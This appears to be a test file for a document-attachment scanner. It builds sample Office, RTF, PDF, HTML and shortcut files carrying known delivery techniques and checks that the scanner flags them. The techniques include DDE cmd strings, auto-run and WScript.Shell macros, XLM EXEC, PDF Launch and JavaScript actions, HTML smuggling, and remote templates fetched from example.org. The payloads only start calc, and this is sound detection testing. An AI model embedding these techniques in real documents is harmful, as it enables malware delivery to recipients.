import assert from "node:assert/strict"
import { readFileSync } from "node:fs"
import { join } from "node:path"
import { describe, test } from "node:test"
import { deflateSync } from "node:zlib"
import { decompress } from "../../src/inspect/active/vba.ts"
import { judge } from "../../src/inspect/file.ts"
import type { Finding } from "../../src/mail/finding.ts"
import { opened } from "../unpack/opened.ts"
import { zip } from "../unpack/zip-writer.ts"
import { compound, packaged, project, within } from "./compound-writer.ts"

const KINDS = new Set(["macro", "active-content", "external-reference", "embedded-file"])

async function look(bytes: Buffer | string, name: string): Promise<readonly Finding[]> {
  const octets = typeof bytes === "string" ? Buffer.from(bytes, "latin1") : bytes
  const file = await opened(octets, { names: [name] })
  return judge(file, { forbidden: new Set() }).filter(({ kind }) => KINDS.has(kind))
}

type Row = readonly [what: string, bytes: Buffer | string, name: string, found: string]

/** Reasons of what was found, wherever in the file, in order and once. */
function rows(table: readonly Row[]): void {
  for (const [what, bytes, name, found] of table) {
    test(what, async () => {
      const findings = await look(bytes, name)
      assert.equal([...new Set(findings.map(({ kind, why }) => `${kind} ${why ?? ""}`))].join(", "), found)
    })
  }
}

const OPENS = 'Sub AutoOpen()\r\n  MsgBox "Xin chao"\r\nEnd Sub\r\n'
const STARTS = 'Sub Tinh()\r\n  CreateObject("WScript.Shell").Run "calc"\r\nEnd Sub\r\n'
const COUNTS = "Function Cong(a, b)\r\n  Cong = a + b\r\nEnd Function\r\n"
const doc = (streams: Readonly<Record<string, Buffer>>): Buffer =>
  compound({ WordDocument: Buffer.alloc(5_000), ...streams })
const macros = (source: string, compiled?: number): Buffer => doc(within("Macros", project(source, compiled)))

describe("a document made by LibreOffice", () => {
  const made = (name: string): Buffer => readFileSync(join(import.meta.dirname, "fixtures", name))
  for (const name of ["plain.doc", "plain.docx", "plain.odt", "plain.pdf", "plain.rtf", "sheet.xls", "sheet.xlsx"]) {
    test(`${name} has nothing in it`, async () => assert.deepEqual(await look(made(name), name), []))
  }
  test("with a macro that runs by itself and starts a program says both", async () => {
    const found = await look(made("macro.ods"), "macro.ods")
    assert.deepEqual(
      found.map(({ kind, why }) => `${kind} ${why}`),
      ["macro auto-run", "macro suspicious"],
    )
  })
})

describe("forms that attackers have published", () => {
  const types = { name: "[Content_Types].xml", data: "<Types/>" }
  const paper = (...parts: readonly { readonly name: string; readonly data: string | Buffer }[]): Buffer =>
    zip([types, { name: "word/document.xml", data: "<w:document/>" }, ...parts])
  const book = (name: string, data: string): Buffer =>
    zip([types, { name: "xl/workbook.xml", data: "<workbook/>" }, { name, data }])
  const sheet = (formula: string): Buffer =>
    book(
      "xl/worksheets/sheet1.xml",
      `<worksheet><sheetData><row><c><f>${formula}</f></c></row></sheetData></worksheet>`,
    )
  const slide = (action: string): Buffer =>
    zip([
      types,
      { name: "ppt/slides/slide1.xml", data: `<p:sld><a:hlinkMouseOver action="${action}" r:id="rId2"/></p:sld>` },
    ])
  const relation = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"
  rows([
    [
      "a project that calls itself a picture",
      paper({ name: "word/media/a.png", data: compound(project(OPENS)) }),
      "a.docx",
      "macro auto-run",
    ],
    [
      "a project that calls itself data",
      paper({ name: "word/theme.dat", data: compound(project(STARTS)) }),
      "a.docx",
      "macro suspicious",
    ],
    [
      "a macro sheet under another name",
      book("xl/worksheets/sheet9.xml", '<xm:macrosheet><c><f>EXEC("calc")</f></c></xm:macrosheet>'),
      "a.xlsx",
      "macro xlm, macro suspicious",
    ],
    [
      "a binary macro sheet under another name",
      book(
        "xl/_rels/workbook.bin.rels",
        `<Relationships><Relationship Type="${relation}" Target="s1.bin"/></Relationships>`,
      ),
      "a.xlsb",
      "macro xlm",
    ],
    ["DDE in a cell", sheet("cmd|'/c calc'!A0"), "a.xlsx", "active-content dde"],
    ["DDE behind a sum", "\"=2+5+cmd|' /C calc'!A0\",1\n", "a.csv", "active-content dde"],
    [
      "a formula that fetches",
      sheet('WEBSERVICE("http://example.org/"&amp;A2)'),
      "a.xlsx",
      "external-reference web-function",
    ],
    ["a program under the mouse", slide("ppaction://program"), "a.ppsx", "active-content program-action"],
    ["a jump to another slide is none", slide("ppaction://hlinksldjump"), "a.pptx", ""],
    ["a formula that counts is none", sheet("SUM(A1:A9)&amp;'Tổng|hợp'!A1"), "a.xlsx", ""],
  ])
})

describe("a macro", () => {
  rows([
    ["that only counts is plain", macros(COUNTS), "a.doc", "macro plain"],
    ["that runs by itself says so", macros(OPENS), "a.doc", "macro auto-run"],
    ["that starts programs says so", macros(STARTS), "a.doc", "macro suspicious"],
    ["that does both says both", macros(OPENS + STARTS), "a.doc", "macro auto-run, macro suspicious"],
    [
      "split over lines is read as one",
      macros("Sub A()\r\n  Create _\r\nObject _\r\n(x)\r\nEnd Sub\r\nSub Auto_Open _\r\n()\r\nEnd Sub"),
      "a.xls",
      "macro auto-run",
    ],
    ["of Publisher, a folder with nothing in it, is none", doc({ "VBA/": Buffer.alloc(0) }), "a.pub", ""],
    ["that nobody wrote is none", macros("Option Explicit\r\n' nothing\r\n"), "a.doc", ""],
    ["whose source was taken away still has its code", macros("", 9_000), "a.doc", "macro stomped"],
    [
      "that nobody wrote, of a form with boxes to tick, is none",
      macros('Attribute VB_Control = "CheckBox1, 31, 0, MSForms, CheckBox"\r\n'.repeat(12), 6_000),
      "a.xls",
      "",
    ],
    [
      "without any module is not to be believed",
      doc({ "Macros/VBA/_VBA_PROJECT": Buffer.from([0xcc, 0x61]) }),
      "a.doc",
      "macro stomped",
    ],
    ["longer than one chunk is read to its end", macros(`${COUNTS.repeat(200)}${STARTS}`), "a.doc", "macro suspicious"],
    [
      "in Excel's storage is found",
      compound({ Workbook: Buffer.alloc(100), ...within("_VBA_PROJECT_CUR", project(OPENS)) }),
      "a.xls",
      "macro auto-run",
    ],
    [
      "in a new document is found by its content, whatever its name",
      docx({ "word/image1.png": compound(project(OPENS)) }),
      "a.docx",
      "macro auto-run",
    ],
    ["in PowerPoint is found", ppt(compound(project(STARTS)), "packed"), "a.ppt", "macro suspicious"],
    ["in PowerPoint, not packed, is found", ppt(compound(project(STARTS)), "plain"), "a.ppt", "macro suspicious"],
    [
      "in OpenDocument is judged by its words",
      odt({
        "Basic/Standard/Module1.xml": `<script:module>Sub Doc&#10;Shell(&quot;calc&quot;)&#10;End Sub</script:module>`,
      }),
      "a.odt",
      "macro suspicious",
    ],
    [
      "library of OpenDocument that is empty is none",
      odt({ "Basic/Standard/script-lb.xml": "<library:library/>" }),
      "a.odt",
      "",
    ],
  ])
  test("tells the names of what it found", async () => {
    const [first, second] = await look(macros(OPENS + STARTS), "a.doc")
    assert.deepEqual([first?.name, second?.name], ["AutoOpen", "WScript.Shell, CreateObject"])
  })
  test("is decompressed as [MS-OVBA] 3.2.2 shows", () => {
    const packed =
      "012fb000236161616263646582660070616768696a013808616b6c00306d6e6f7006710270041072737475761077787 97a003c"
    const text = decompress(Buffer.from(packed.replaceAll(" ", ""), "hex")).toString()
    assert.equal(text, "#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa")
  })
})

describe("a workbook", () => {
  const sheet = record(0x85, Buffer.from([0, 0, 0, 0, 2, 1, 6, 0, ...Buffer.from("Macro1")]))
  const data = record(0x85, Buffer.from([0, 0, 0, 0, 0, 0, 6, 0, ...Buffer.from("Sheet1")]))
  const bof = record(0x809, Buffer.from([0, 6, 5, 0]))
  const auto = record(0x18, Buffer.concat([Buffer.from([0x20, 0, 0, 1]), Buffer.alloc(10), Buffer.from([0, 1])]))
  const call = record(
    0x06,
    Buffer.concat([Buffer.alloc(20), Buffer.from([9, 0, 0x17, 1, 0, 0x41, 0x42, 1, 110, 0, 0])]),
  )
  const dde = record(0x1ae, Buffer.concat([Buffer.from([0, 0, 15, 0, 0]), Buffer.from("cmd\x03/c calc.exe")]))
  const linked = (path: string): Buffer =>
    record(0x1ae, Buffer.concat([Buffer.from([1, 0, path.length, 0, 0]), Buffer.from(path, "latin1")]))
  const xls = (...records: readonly Buffer[]): Buffer => compound({ Workbook: Buffer.concat([bof, ...records]) })
  rows([
    ["with sheets is nothing", xls(data), "a.xls", ""],
    ["with a macro sheet of Excel 4 says so", xls(data, sheet), "a.xls", "macro xlm"],
    [
      "with a macro sheet that runs at opening and starts programs says all",
      xls(sheet, auto, call),
      "a.xls",
      "macro xlm, macro auto-run, macro suspicious",
    ],
    ["with a link that starts a program says so", xls(data, dde), "a.xls", "active-content dde"],
    ["that counts on another workbook is nothing", xls(data, linked("\x01\x01CHo so\x03du toan.xls")), "a.xls", ""],
    ["that counts on one in a folder below is nothing", xls(data, linked("\x01so lieu\x03thang 6.xls")), "a.xls", ""],
    [
      "that counts on one of another computer says so",
      xls(data, linked("\x01\x01@may-chu\x03chung\x03a.xls")),
      "a.xls",
      "external-reference workbook-link",
    ],
    [
      "of the new format with a macro sheet",
      xlsx({ "xl/macrosheets/sheet1.xml": '<xm:macrosheet><f>EXEC("calc")</f></xm:macrosheet>' }),
      "a.xlsm",
      "macro xlm, macro suspicious",
    ],
    [
      "of the new format with DDE",
      xlsx({
        "xl/externalLinks/externalLink1.xml": `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`,
      }),
      "a.xlsx",
      "active-content dde",
    ],
    [
      "of the binary format with DDE",
      xlsx({ "xl/externalLinks/externalLink1.bin": Buffer.from([0xe8, 0x02, 0x04, 1, 0, 0, 0]) }),
      "a.xlsb",
      "active-content dde",
    ],
    [
      "in one file of 2003 with DDE",
      `<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook xmlns:ss="x"><Cell ss:Formula="=cmd|'/c calc'!A0"/></Workbook>`,
      "a.xml",
      "active-content dde",
    ],
    ["of comma-separated values with DDE", "Tên,Số\n=cmd|' /C calc'!A0,2\n", "a.csv", "active-content dde"],
    [
      "of values with DDE behind a semicolon and a plus",
      "a;b\n1;\"+cmd|'/c calc'!A1\"\n",
      "a.csv",
      "active-content dde",
    ],
    ["of values with a bar is nothing", "Tên|Số,=A1+B2,-5 | 3!\n", "a.csv", ""],
    [
      "as symbolic links with a macro sheet",
      'ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;EEXEC("calc")\r\nE\r\n',
      "a.slk",
      "macro xlm, macro auto-run, macro suspicious",
    ],
  ])
})

describe("a field", () => {
  const run = (...parts: readonly string[]): string => `<w:document>${parts.join("")}</w:document>`
  const mark = (type: string): string => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`
  const code = (text: string): string => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`
  const text = (body: string): Buffer =>
    Buffer.concat([Buffer.alloc(512), Buffer.from(body, "latin1"), Buffer.alloc(64)])
  rows([
    [
      "with DDE in one element",
      docx({
        "word/document.xml": run(`<w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/k calc&quot;"/>`),
      }),
      "a.docx",
      "active-content dde",
    ],
    [
      "with DDE split over runs",
      docx({ "word/document.xml": run(mark("begin"), code("D"), code("DE"), code("AUTO cmd /c calc"), mark("end")) }),
      "a.docx",
      "active-content dde",
    ],
    [
      "with DDE put together from numbers",
      docx({
        "word/header1.xml": run(
          mark("begin"),
          mark("begin"),
          code("QUOTE 68 68 69 65 85 84 79"),
          mark("separate"),
          mark("end"),
          code(" cmd"),
          mark("end"),
        ),
      }),
      "a.docx",
      "active-content dde",
    ],
    [
      "with a page number is nothing",
      docx({
        "word/document.xml": run(mark("begin"), code(" PAGE "), mark("separate"), "<w:t>DDE</w:t>", mark("end")),
      }),
      "a.docx",
      "",
    ],
    [
      "in a part of any name that a relation makes a header",
      docx({ "custom/zz.bin": run(mark("begin"), code("DDEAUTO cmd /c calc"), mark("end")) }),
      "a.docx",
      "active-content dde",
    ],
    ["that speaks of DDE is nothing", docx({ "word/document.xml": run("<w:t>DDEAUTO cmd</w:t>") }), "a.docx", ""],
    [
      "that fetches a picture",
      docx({
        "word/document.xml": run(`<w:fldSimple w:instr="INCLUDEPICTURE &quot;https://example.org/a.png&quot;"/>`),
      }),
      "a.docx",
      "external-reference external-image",
    ],
    [
      "of old Word with DDE",
      compound({ WordDocument: text('Kinh gui \x13DDEAUTO c:\\cmd.exe "/k calc"\x14x\x15') }),
      "a.doc",
      "active-content dde",
    ],
    [
      "of old Word with DDE in two octets a letter",
      compound({ WordDocument: Buffer.concat([Buffer.alloc(513), Buffer.from("\x13 DDE cmd\x15", "utf16le")]) }),
      "a.doc",
      "active-content dde",
    ],
    [
      "of old Word with a link is nothing",
      compound({ WordDocument: text('\x13 HYPERLINK "http://example.org" \x14x\x15') }),
      "a.doc",
      "",
    ],
    [
      "of RTF with DDE",
      "{\\rtf1{\\field{\\*\\fldinst {\\rtlch DDE}{AUTO cmd /c calc}}{\\fldrslt x}}}",
      "a.rtf",
      "active-content dde",
    ],
    [
      "of a whole document in one file",
      `<?xml version="1.0"?><pkg:package xmlns:pkg="x"><pkg:part><w:p><w:fldSimple w:instr="DDEAUTO cmd"/></w:p></pkg:part></pkg:package>`,
      "a.xml",
      "active-content dde",
    ],
  ])
})

describe("a relation", () => {
  const rels = (type: string, target: string): string =>
    `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`
  const related = (type: string, target: string): Buffer => docx({ "word/_rels/settings.xml.rels": rels(type, target) })
  rows([
    ["to a hyperlink is nothing", related("hyperlink", "https://example.org/"), "a.docx", ""],
    [
      "to a template elsewhere",
      related("attachedTemplate", "https://example.org/a.dotm"),
      "a.docx",
      "external-reference remote-template",
    ],
    [
      "to a template on a share",
      related("attachedTemplate", "file:///\\\\host\\a.dotm"),
      "a.docx",
      "external-reference remote-template",
    ],
    [
      "to a template of its writer's computer is nothing",
      related("attachedTemplate", "file:///C:\\Users\\An\\Normal.dotm"),
      "a.docx",
      "",
    ],
    [
      "to an object elsewhere",
      related("oleObject", "mhtml:https://example.org/a.html!x-usc:https://example.org/a.html"),
      "a.docx",
      "external-reference external-object",
    ],
    [
      "of a chart to the workbook of its writer",
      related("oleObject", "file:///G:\\Bao cao\\so lieu.xlsx"),
      "a.docx",
      "external-reference workbook-link",
    ],
    [
      "of a chart to a workbook of a share",
      docx({ "word/charts/_rels/chart1.xml.rels": rels("oleObject", "file:///\\\\host\\so%20lieu.xlsx") }),
      "a.docx",
      "external-reference workbook-link",
    ],
    [
      "of a chart to a page",
      docx({ "word/charts/_rels/chart1.xml.rels": rels("oleObject", "https://example.org/a.html") }),
      "a.docx",
      "external-reference external-object",
    ],
    ["of a chart to an unsaved workbook", related("oleObject", "Book1"), "a.docx", "external-reference workbook-link"],
    [
      "to an object of a share",
      related("oleObject", "file:///\\\\host\\a.xlsx"),
      "a.docx",
      "external-reference external-object",
    ],
    ["to a frame elsewhere", related("frame", "https://example.org/"), "a.docx", "external-reference external-frame"],
    [
      "to a picture elsewhere",
      related("image", "http://example.org/a.png"),
      "a.docx",
      "external-reference external-image",
    ],
    [
      "of a kind nobody thought of",
      related("tomorrow", "http://example.org/"),
      "a.docx",
      "external-reference external",
    ],
    [
      "in UTF-16",
      docx({
        "word/_rels/document.xml.rels": Buffer.from(`\ufeff${rels("oleObject", "http://example.org/a")}`, "utf16le"),
      }),
      "a.docx",
      "external-reference external-object",
    ],
    [
      "spelled with entities",
      docx({
        "word/_rels/a.rels": rels("attachedTemplate", "&#x68;ttp://example.org/a").replace(
          '"External"',
          '"&#69;xternal"',
        ),
      }),
      "a.docx",
      "external-reference remote-template",
    ],
    [
      "to a ribbon under any name",
      docx({ "word/a.bin": `<customUI onLoad="Chay"/>` }),
      "a.docx",
      "active-content custom-ui",
    ],
    [
      "to data that is fetched",
      docx({
        "xl/connections.xml": `<connections><connection refreshOnLoad="1"><webPr url="http://192.0.2.1/a"/></connection></connections>`,
      }),
      "a.xlsx",
      "external-reference external-data",
    ],
    [
      "to macros that cannot be read, in one file of XML",
      `<?xml version="1.0"?><pkg:package xmlns:pkg="x"><pkg:binaryData>${Buffer.concat([Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.alloc(900)]).toString("base64")}</pkg:binaryData></pkg:package>`,
      "a.doc",
      "macro unreadable",
    ],
    [
      "to macros that a document of 2003 tells of",
      `<?xml version="1.0"?><w:wordDocument xmlns:w="x" w:macrosPresent="yes"><w:binData>QWN0aXZlTWltZQ==</w:binData></w:wordDocument>`,
      "a.xml",
      "macro unreadable",
    ],
    ["to ActiveX", docx({ "word/activeX/activeX1.xml": "<ax:ocx/>" }), "a.docx", "active-content activex"],
    [
      "to a ribbon that calls at opening",
      docx({ "customUI/customUI.xml": `<customUI onLoad="Chay"/>` }),
      "a.docm",
      "active-content custom-ui",
    ],
  ])
})

describe("an object", () => {
  const native = packaged("a.exe", Buffer.from("inert"))
  const equation = compound({ "\x01CompObj": Buffer.alloc(90), "Equation Native": Buffer.alloc(40) })
  const linked = Buffer.concat([
    Buffer.from("01000002010000000000000000000000", "hex"),
    Buffer.from("http://example.org/a.hta\0", "utf16le"),
    Buffer.alloc(40),
  ])
  const rtf = (inside: string): string => `{\\rtf1 {\\object\\objemb{\\*\\objdata ${inside}}{\\result x}}}`
  const stored = (program: string, bytes: Buffer): string => {
    const head = Buffer.alloc(12)
    head.writeUInt32LE(0x501, 0)
    head.writeUInt32LE(2, 4)
    head.writeUInt32LE(program.length + 1, 8)
    const size = Buffer.alloc(4)
    size.writeUInt32LE(bytes.length)
    return Buffer.concat([head, Buffer.from(`${program}\0`), Buffer.alloc(8), size, bytes]).toString("hex")
  }
  const ole = stored("OLE2Link", compound({ "\x01Ole": linked }))
  rows([
    ["in old Word is a file in it", doc({ "ObjectPool/_1/\x01Ole10Native": native }), "a.doc", "embedded-file package"],
    [
      "in new Word is a file in it",
      docx({ "word/embeddings/oleObject1.bin": compound({ "\x01Ole10Native": native }) }),
      "a.docx",
      "embedded-file package",
    ],
    [
      "in PowerPoint is a file in it",
      ppt(compound({ "\x01Ole10Native": native }), "packed"),
      "a.ppt",
      "embedded-file package",
    ],
    [
      "in OpenDocument is a file in it",
      odt({ "Object 1": compound({ "\x01Ole10Native": native }) }),
      "a.odt",
      "embedded-file package, embedded-file object",
    ],
    [
      "of the equation editor",
      doc({ "ObjectPool/_1/Equation Native": Buffer.alloc(40) }),
      "a.doc",
      "active-content equation-editor",
    ],
    ["that lies elsewhere", doc({ "ObjectPool/_1/\x01Ole": linked }), "a.doc", "external-reference external-object"],
    ["of RTF is a file in it", rtf(stored("Package", native.subarray(4))), "a.rtf", "embedded-file package"],
    ["of RTF of MathType is a file in it", rtf(stored("Equation.DSMT4", native)), "a.rtf", "embedded-file object"],
    ["of RTF of the equation editor", rtf(stored("Equation.3", equation)), "a.rtf", "active-content equation-object"],
    [
      "of RTF that lies elsewhere and loads by itself",
      rtf(ole).replace("\\objemb", "\\objautlink\\objupdate"),
      "a.rtf",
      "active-content object-update, external-reference external-object",
    ],
    [
      "of RTF with white space and groups in its digits",
      rtf(ole.replace(/./g, "$&\r\n\t{}")),
      "a.rtf",
      "external-reference external-object",
    ],
    [
      "of RTF with words and unknown groups in its digits",
      rtf(ole.replace(/(.{60})/g, "$1\\xyz {\\*\\abc 414141}")),
      "a.rtf",
      "external-reference external-object",
    ],
    ["of RTF one digit off", rtf(`0${ole}`), "a.rtf", "external-reference external-object"],
    [
      "of RTF as binary octets",
      rtf(`\\bin${ole.length / 2} ${Buffer.from(ole, "hex").toString("latin1")}`),
      "a.rtf",
      "external-reference external-object",
    ],
    ["of RTF that is none", rtf("0badc0de"), "a.rtf", "active-content malformed-object"],
    [
      "template of RTF elsewhere",
      "{\\rtf1{\\*\\template http://example.org/a.dotm}}",
      "a.doc",
      "external-reference remote-template",
    ],
    ["of RTF behind a broken head", `{\\rt${rtf(ole).slice(5)}`, "a.doc", "external-reference external-object"],
    ["that RTF only speaks of is nothing", "{\\rtf1 \\{\\\\*\\\\objdata 01050000\\}}", "a.rtf", ""],
  ])
  test("with a program's name is of a forbidden type, though nobody takes it out", async () => {
    const file = await opened(ppt(compound({ "\x01Ole10Native": native }), "packed"), { names: ["a.ppt"] })
    const found = judge(file, { forbidden: new Set(["exe"]) })
    assert.ok(found.some(({ kind, name }) => kind === "forbidden-type" && name === "a.exe"))
  })
  test("tells the name of its file", async () => {
    const [found] = await look(doc({ "ObjectPool/_1/\x01Ole10Native": native }), "a.doc")
    assert.equal(found?.name, "a.exe")
  })
})

describe("a PDF", () => {
  const pdf = (...objects: readonly string[]): string =>
    `%PDF-1.7\n${objects.map((one, index) => `${index + 1} 0 obj\n${one}\nendobj\n`).join("")}trailer <</Root 1 0 R>>\n%%EOF`
  const stream = (dictionary: string, bytes: Buffer): string =>
    `<<${dictionary}/Length ${bytes.length}>>stream\n${bytes.toString("latin1")}\nendstream`
  const hidden = deflateSync(Buffer.from("7 0 8 30 <</S/JavaScript/JS(app.alert(1))>> <</A 1>>"))
  rows([
    ["with pages is nothing", pdf("<</Type/Catalog/OpenAction[2 0 R/XYZ 0 0 0]/Pages 2 0 R>>"), "a.pdf", ""],
    ["with links is nothing", pdf("<</Type/Annot/A<</S/URI/URI(https://example.org)>>>>"), "a.pdf", ""],
    ["that speaks of scripts is nothing", pdf("<</Title(about /JavaScript and /JS\\) (x) and /Launch)>>"), "a.pdf", ""],
    [
      "with a script",
      pdf("<</OpenAction<</S/JavaScript/JS(app.launchURL\\('x'\\))>>>>"),
      "a.pdf",
      "active-content pdf-javascript",
    ],
    [
      "with a script whose name is spelled in hex",
      pdf("<</AA<</O<</S/J#61vaScript/J#53(app.alert)>>>>>>"),
      "a.pdf",
      "active-content pdf-javascript",
    ],
    [
      "with a script in an object stream",
      pdf(stream("/Type/ObjStm/N 2/First 9/Filter/FlateDecode", hidden)),
      "a.pdf",
      "active-content pdf-javascript",
    ],
    [
      "with a script behind two filters",
      pdf(stream("/Type/ObjStm/N 2/First 9/Filter[/ASCIIHexDecode/Fl]", Buffer.from(`${hidden.toString("hex")}>`))),
      "a.pdf",
      "active-content pdf-javascript",
    ],
    [
      "with a script in a stream",
      pdf(
        "<</S/JavaScript/JS 2 0 R>>",
        stream("/Filter/FlateDecode", deflateSync(Buffer.from("this.exportDataObject()"))),
      ),
      "a.pdf",
      "active-content pdf-javascript",
    ],
    [
      "with a script in a later revision",
      `${pdf("<</Type/Catalog>>")}\n1 0 obj\n<</S/JavaScript/JS<6170702e616c657274>>>\nendobj`,
      "a.pdf",
      "active-content pdf-javascript",
    ],
    [
      "with an object inside another's stream",
      pdf(stream("/Filter/FlateDecode", Buffer.from("9 0 obj <</S/Launch/F(cmd.exe)>> endobj"))),
      "a.pdf",
      "active-content pdf-launch",
    ],
    [
      "whose form only formats its fields is nothing",
      pdf('<</AA<</K<</S/JavaScript/JS(AFNumber_Keystroke\\(2, 0, 0, 0, "", true\\);)>>>>>>'),
      "a.pdf",
      "",
    ],
    [
      "that starts a program",
      pdf("<</OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>>>"),
      "a.pdf",
      "active-content pdf-launch",
    ],
    [
      "with a file in it",
      pdf("<</Type/Filespec/F(a.exe)/EF<</F 2 0 R>>>>", stream("/Type/EmbeddedFile", Buffer.from("x"))),
      "a.pdf",
      "embedded-file pdf-attachment",
    ],
    [
      "whose form sends itself",
      pdf("<</A<</S/SubmitForm/F(https://example.org)>>>>"),
      "a.pdf",
      "active-content pdf-submit-form",
    ],
    [
      "with rich media and XFA",
      pdf("<</Subtype/RichMedia>>", "<</XFA[(template) 3 0 R]>>"),
      "a.pdf",
      "active-content pdf-rich-media, active-content pdf-xfa",
    ],
    [
      "that opens a file of another computer",
      pdf("<</AA<</O<</S/GoToR/F(\\\\\\\\host\\\\a)/D[0]>>>>>>"),
      "a.pdf",
      "external-reference pdf-goto-remote",
    ],
    [
      "that opens an address by itself",
      pdf("<</OpenAction<</S/URI/URI(https://example.org)>>>>"),
      "a.pdf",
      "active-content pdf-open-address",
    ],
  ])
})

describe("a page", () => {
  const big = Buffer.alloc(3_000, "inert").toString("base64")
  rows([
    [
      "with text is nothing",
      "<!doctype html><html><body><a href='https://example.org'>Bản tin</a><img src='cid:1'><style>p{}</style></body></html>",
      "a.html",
      "",
    ],
    ["with a picture in it is nothing", `<html><img src="data:image/png;base64,${big}"></html>`, "a.html", ""],
    [
      "with a script says so",
      "<html><script>document.title='x'</script></html>",
      "a.html",
      "active-content html-script",
    ],
    [
      "with data about itself is nothing",
      `<html><script type="application/ld+json">{"@type":"Organization"}</script></html>`,
      "a.html",
      "",
    ],
    ["with a handler says so", "<html><body onload='x()'></body></html>", "a.html", "active-content html-script"],
    [
      "with a script as address",
      "<html><a href='java\tscript:x()'>x</a></html>",
      "a.html",
      "active-content html-script",
    ],
    [
      "that builds a file of itself",
      `<html><script>var b=new Blob([atob("${big}")]);a.href=URL.createObjectURL(b);a.download="a.iso";a.click()</script></html>`,
      "a.html",
      "active-content html-smuggling, active-content html-script",
    ],
    [
      "that writes itself anew",
      `<html><script>document.write(unescape("${"%3C".repeat(400)}"))</script></html>`,
      "a.html",
      "active-content html-smuggling, active-content html-script",
    ],
    [
      "that downloads without a script",
      `<html><a download="a.zip" href="data:application/zip;base64,${big}">x</a></html>`,
      "a.html",
      "active-content html-smuggling, active-content html-data-url",
    ],
    [
      "in UTF-16",
      Buffer.from("\ufeff<html><script>x()</script></html>", "utf16le"),
      "a.html",
      "active-content html-script",
    ],
    [
      "whose script only old browsers see",
      "<html><!--[if IE]><script>x()</script><![endif]--></html>",
      "a.html",
      "active-content html-script",
    ],
    ["whose script is a comment is nothing", "<html><!-- <script>x()</script> --></html>", "a.html", ""],
    [
      "that goes elsewhere at once",
      `<html><meta http-equiv="refresh" content="0; url=https://example.org/"></html>`,
      "a.html",
      "active-content html-redirect",
    ],
    [
      "that asks for a password for somebody else",
      `<html><form action="https://example.org/x"><input type="password"></form></html>`,
      "a.html",
      "active-content html-password-form",
    ],
    ["without its opening tag, by its name", "xin chao <script>x()</script>", "a.htm", "active-content html-script"],
    [
      "as a picture is nothing",
      `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><p>x</p></foreignObject><path d="M0 0"/></svg>`,
      "a.svg",
      "",
    ],
    [
      "as a picture with a script",
      `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><svg:script>x()</svg:script></svg>`,
      "a.svg",
      "active-content svg-script",
    ],
    [
      "as a picture with a frame",
      `<svg><foreignObject><iframe src="https://example.org"/></foreignObject></svg>`,
      "a.svg",
      "active-content svg-script",
    ],
  ])
})

describe("a small file", () => {
  const lnk = Buffer.alloc(76)
  Buffer.from("4c0000000114020000000000c000000000000046a0000000", "hex").copy(lnk)
  const argument = Buffer.concat([Buffer.from([8, 0]), Buffer.from("/c calc.", "utf16le")])
  const guid = Buffer.from("e716e3bd65261145a4c48d4d0b7a9eac", "hex")
  const stored = (bytes: Buffer): Buffer =>
    Buffer.concat([guid, Buffer.from([bytes.length, 0, 0, 0, 0, 0, 0, 0]), Buffer.alloc(12), bytes])
  const notebook = (...files: readonly Buffer[]): Buffer =>
    Buffer.concat([Buffer.from("e4525c7b8cd8a74daeb15378d02996d3", "hex"), Buffer.alloc(64), ...files.map(stored)])
  const png = Buffer.from("\x89PNG\r\n\x1a\n    ", "latin1")
  rows([
    ["that is a shortcut", Buffer.concat([lnk, argument]), "a.txt", "active-content shortcut"],
    [
      "that is an internet shortcut",
      "[InternetShortcut]\r\nURL=file://host/a.exe\r\n",
      "a.url",
      "active-content internet-shortcut",
    ],
    ["that is a web query", "WEB\r\n1\r\nhttp://example.org/a\r\n", "a.iqy", "external-reference web-query"],
    [
      "that is a library",
      `<?xml version="1.0"?><libraryDescription><simpleLocation><url>\\\\host\\share</url></simpleLocation></libraryDescription>`,
      "a.library-ms",
      "active-content library-folder",
    ],
    ["that is a script", "WScript.Echo(1)", "a.js", "active-content script"],
    [
      "that is an application in a page",
      "<html><HTA:APPLICATION id=x><script>x()</script></html>",
      "a.txt",
      "active-content html-script, active-content script",
    ],
    [
      "that is an add-in of Excel",
      Buffer.concat([Buffer.from("MZ"), Buffer.alloc(200), Buffer.from("xlAutoOpen\0")]),
      "a.dat",
      "active-content add-in",
    ],
    ["that is a notebook with pictures is nothing", notebook(png, png), "a.one", ""],
    ["that is a notebook with a file in it", notebook(png, Buffer.from("@echo off")), "a.one", "embedded-file onenote"],
    ["that is text is nothing", "Kính gửi: javascript: Sub AutoOpen() DDEAUTO =cmd|'/c calc'!A0 <script>", "a.txt", ""],
  ])
  test("that is a shortcut tells what it starts", async () => {
    const [found] = await look(Buffer.concat([lnk, argument]), "a.lnk")
    assert.equal(found?.name, "/c calc.")
  })
})

function docx(parts: Readonly<Record<string, Buffer | string>>): Buffer {
  return pack({ "[Content_Types].xml": "<Types/>", "word/styles.xml": "<w:styles/>", ...parts })
}
function xlsx(parts: Readonly<Record<string, Buffer | string>>): Buffer {
  return pack({ "[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>", ...parts })
}
function odt(parts: Readonly<Record<string, Buffer | string>>): Buffer {
  const mimetype = { name: "mimetype", data: "application/vnd.oasis.opendocument.text", stored: true }
  return zip([mimetype, ...Object.entries(parts).map(([name, data]) => ({ name, data }))])
}
function pack(parts: Readonly<Record<string, Buffer | string>>): Buffer {
  return zip(Object.entries(parts).map(([name, data]) => ({ name, data })))
}

/** A record of a workbook. [MS-XLS] 2.1.4. */
function record(type: number, data: Buffer): Buffer {
  const head = Buffer.alloc(4)
  head.writeUInt16LE(type)
  head.writeUInt16LE(data.length, 2)
  return Buffer.concat([head, data])
}

/** A presentation with one object. [MS-PPT] 2.10.34. */
